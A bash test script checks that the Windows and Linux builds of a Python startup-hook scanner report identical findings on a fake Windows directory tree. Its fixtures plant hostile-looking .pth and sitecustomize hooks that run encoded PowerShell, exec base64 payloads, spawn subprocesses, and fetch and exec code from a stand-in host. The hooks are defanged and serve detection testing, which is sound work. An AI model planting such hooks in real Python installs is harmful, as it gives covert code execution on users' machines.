#!/usr/bin/env bash
# The Windows build, checked under Wine: it scans a tree laid out as a Windows system (a
# python.org install under C:\Python312, a per-user install under %LOCALAPPDATA%, a user site
# under %APPDATA%, a venv whose pyvenv.cfg names `home = C:\Python312`, an install whose
# directories are named in another case, an embeddable distribution's `._pth`) and
# must report what the Linux build reports on the same tree — rule for rule, path for path —
# with exit 1 for the planted hooks and the stock hooks (pywin32's, setuptools') left alone.
#   usage: release/check-windows.sh WINDOWS_EXE LINUX_BINARY
# Installs Debian's wine64 when missing. Nothing in the tree is run: its .exe files are empty.
set -euo pipefail
EXE="$(realpath "$1")"
LINUX="$(realpath "$2")"
command -v wine >/dev/null || { apt-get update -qq && apt-get install -y -qq wine64 wine; }
command -v x86_64-w64-mingw32-gcc >/dev/null \
  || { apt-get update -qq && apt-get install -y -qq gcc-mingw-w64-x86-64; }
T="$(mktemp -d)"; trap 'rm -rf "$T"' EXIT
W="$T/win"
export WINEPREFIX="$T/prefix" WINEDEBUG=-all WINEDLLOVERRIDES="mscoree,mshtml=" DISPLAY=
# the exe beside the stand-in for the one DLL Wine 8.0 lacks (release/wine/bcryptprimitives.c)
mkdir -p "$T/bin"
cp "$EXE" "$T/bin/pthscan.exe"
x86_64-w64-mingw32-gcc -O2 -shared -o "$T/bin/bcryptprimitives.dll" \
  "$(dirname "$0")/wine/bcryptprimitives.c" "$(dirname "$0")/wine/bcryptprimitives.def" -ladvapi32
EXE="$T/bin/pthscan.exe"

put() { mkdir -p "$(dirname "$W/$1")"; printf '%s' "$2" > "$W/$1"; }
# a python.org install: the prefix holds python.exe, Lib\os.py, Lib\site-packages
put Python312/python.exe ''
put Python312/Lib/os.py '# os'
put Python312/Lib/site-packages/evil.pth "import os; os.system('powershell -enc SQBFAFgA')"
put Python312/Lib/site-packages/distutils-precedence.pth "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); "
put Python312/Lib/site-packages/pywin32.pth $'# .pth file for the PyWin32 extensions\r\nwin32\r\nwin32\\lib\r\nPythonwin\r\n'
mkdir -p "$W/Python312/Lib/site-packages/win32/lib" "$W/Python312/Lib/site-packages/Pythonwin"
put Python312/Lib/site-packages/sitecustomize.py "import base64; exec(base64.b64decode('cHJpbnQoMSk='))"
# a per-user install and its user site
put Users/alice/AppData/Local/Programs/Python/Python313/python.exe ''
put Users/alice/AppData/Local/Programs/Python/Python313/Lib/os.py '# os'
put Users/alice/AppData/Roaming/Python/Python313/site-packages/usercustomize.py \
  "import urllib.request; exec(urllib.request.urlopen('http://example.invalid/x').read())"
# a venv of the first install, with a hook of its own
put Users/alice/proj/.venv/pyvenv.cfg $'home = C:\\Python312\r\ninclude-system-site-packages = false\r\nversion = 3.12.4\r\n'
put Users/alice/proj/.venv/Scripts/python.exe ''
put Users/alice/proj/.venv/Lib/site-packages/litellm_init.pth \
  "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', 'import base64; exec(base64.b64decode(\"cHJpbnQoMSk=\"))'])"

# a disk keeps names as they were made: `LIB\Site-Packages` is what Windows opens as
# `Lib\site-packages`; an embeddable distribution whose `._pth` runs `site` runs the `.pth`
# files of its folder
put Tools/Python311/python.exe ''
put Tools/Python311/LIB/Site-Packages/e.pth "import os; os.system('powershell -enc SQBFAFgA')"
put App/python/python.exe ''
put App/python/python312.dll ''
put App/python/python312._pth $'python312.zip\r\n.\r\n\r\n# Uncomment to run site.main() automatically\r\nimport site\r\n'
put App/python/hook.pth "import os; os.system('powershell -enc SQBFAFgA')"

run() {  # run NAME CMD...: its JSON report in $T/NAME.json, its exit code checked to be 1
  set +e; "${@:2}" > "$T/$1.json" 2> "$T/$1.err"; local code=$?; set -e
  [ "$code" = 1 ] || { echo "$1: expected exit 1, got $code" >&2; cat "$T/$1.err" >&2; exit 1; }
}
wine wineboot --init >/dev/null 2>&1 || true
run linux "$LINUX" --quiet --format json --root "$W"
# Wine's Z: drive is the Unix root
run windows wine "$EXE" --quiet --format json --root "Z:${W//\//\\}"
# the same install given as a path on the live host (no --root)
run linux-path "$LINUX" --quiet --format json "$W/Python312"
run windows-path wine "$EXE" --quiet --format json "Z:${W//\//\\}\\Python312"

python3 - "$T" "$W" <<'EOF'
import json, sys
t, w = sys.argv[1], sys.argv[2]
def findings(name, root):
    doc = json.load(open(f"{t}/{name}.json"))
    out = set()
    for f in doc["findings"]:
        p = f["location"]["path"].replace("\\", "/")
        for prefix in (root, "Z:" + root):
            if p.startswith(prefix):
                p = p[len(prefix):]
        out.add((f["rule"], f["severity"], p))
    return out
for mode in ("", "-path"):
    lin, win = findings("linux" + mode, w), findings("windows" + mode, w)
    for r in sorted(win):
        print(f"windows{mode}:", *r)
    if lin != win or not win:
        print("only linux:", sorted(lin - win), "\nonly windows:", sorted(win - lin), file=sys.stderr)
        sys.exit(1)
win = findings("windows", w)
want = {"/Python312/Lib/site-packages/evil.pth",
        "/Python312/Lib/site-packages/sitecustomize.py",
        "/Users/alice/AppData/Roaming/Python/Python313/site-packages/usercustomize.py",
        "/Users/alice/proj/.venv/Lib/site-packages/litellm_init.pth",
        "/Tools/Python311/LIB/Site-Packages/e.pth",
        "/App/python/hook.pth"}
high = {p for (_, sev, p) in win if sev in ("high", "critical")}
missing = want - high
if missing:
    print("not reported at high or above:", sorted(missing), file=sys.stderr)
    sys.exit(1)
stock = {p for (_, sev, p) in win if sev not in ("info", "low") and ("pywin32" in p or "distutils" in p)}
if stock:
    print("stock hooks reported:", sorted(stock), file=sys.stderr)
    sys.exit(1)
print(f"windows build ok under wine: {len(win)} findings, identical to the linux build's")
EOF
